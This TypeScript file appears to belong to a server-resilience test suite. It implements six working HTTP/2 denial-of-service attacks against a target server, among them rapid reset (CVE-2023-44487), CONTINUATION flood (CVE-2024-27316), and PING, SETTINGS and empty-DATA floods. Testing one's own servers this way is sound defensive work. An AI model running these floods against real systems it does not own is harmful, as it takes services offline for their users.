import type { TLSSocket } from 'node:tls';
import {
  FLAG,
  http2Field,
  http2Frame,
  http2Head,
  HTTP2_PREFACE,
  uint32,
} from '../../../shared/testing/http2-frames';
import type { Attack } from './attack';
import { SMALL } from './stored';
import type { Victim } from './victim';

const CONNECTIONS = 4;
const FRAMES_AT_ONCE = 100;
const CANCEL = 8;
const WHOLE = FLAG.endHeaders | FLAG.endStream;

/** Known denial-of-service attacks over HTTP/2. Each runs until the server ends the connection, which counts as broken. */
export const HTTP2: readonly Attack[] = [
  endless('requests that are reset at once (CVE-2023-44487), of a tenant', (at, { authorization }) => [
    http2Frame('headers', {
      flags: WHOLE,
      stream: streamOf(at),
      payload: http2Head('GET', SMALL, [http2Field('authorization', authorization)]),
    }),
    reset(at),
  ]),
  endless('requests that are reset at once (CVE-2023-44487), without credentials', (at) => [
    http2Frame('headers', { flags: WHOLE, stream: streamOf(at), payload: http2Head('GET', '/livez') }),
    reset(at),
  ]),
  endless('one head in pieces without end (CVE-2024-27316), without credentials', (at) => [
    at === 0
      ? http2Frame('headers', { flags: FLAG.endStream, payload: http2Head('GET', '/livez') })
      : http2Frame('continuation', { payload: http2Field('x', 'y') }),
  ]),
  endless('PING without end (CVE-2019-9512), without credentials', () => [
    http2Frame('ping', { stream: 0, payload: Buffer.alloc(8) }),
  ]),
  endless('SETTINGS without end (CVE-2019-9515), without credentials', () => [
    http2Frame('settings', { stream: 0 }),
  ]),
  endless('empty pieces of a body (CVE-2019-9518), of a tenant', (at, { authorization }) => [
    at === 0
      ? http2Frame('headers', {
          flags: FLAG.endHeaders,
          payload: http2Head('PATCH', SMALL, [
            http2Field('authorization', authorization),
            http2Field('content-type', 'application/merge-patch+json'),
          ]),
        })
      : http2Frame('data'),
  ]),
];

function streamOf(at: number): number {
  return 2 * at + 1;
}

function reset(at: number): Buffer {
  return http2Frame('reset', { stream: streamOf(at), payload: uint32(CANCEL) });
}

/** Sends frames as fast as the server reads them; `make` creates the frame of each index. */
function endless(what: string, make: (at: number, victim: Victim) => readonly Buffer[]): Attack {
  return {
    name: `HTTP/2: ${what}`,
    atOnce: CONNECTIONS,
    round: async (victim, signal) => {
      const socket = victim.connect({ ALPNProtocols: ['h2'] });
      const end = (): void => {
        socket.destroy();
      };
      signal.addEventListener('abort', end);
      await sendOn(socket, (at) => make(at, victim));
      signal.removeEventListener('abort', end);
      if (!signal.aborted) victim.count(0);
    },
  };
}

/** Resolves when the server has closed the connection. Its output is read and ignored until then. */
async function sendOn(socket: TLSSocket, make: (at: number) => readonly Buffer[]): Promise<void> {
  const over = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.resume();
  socket.write(HTTP2_PREFACE);
  let at = 0;
  const send = (): void => {
    if (!socket.writable) return;
    const parts = Array.from({ length: FRAMES_AT_ONCE }, () => make(at++)).flat();
    socket.write(Buffer.concat(parts), () => setImmediate(send));
  };
  send();
  await over;
}
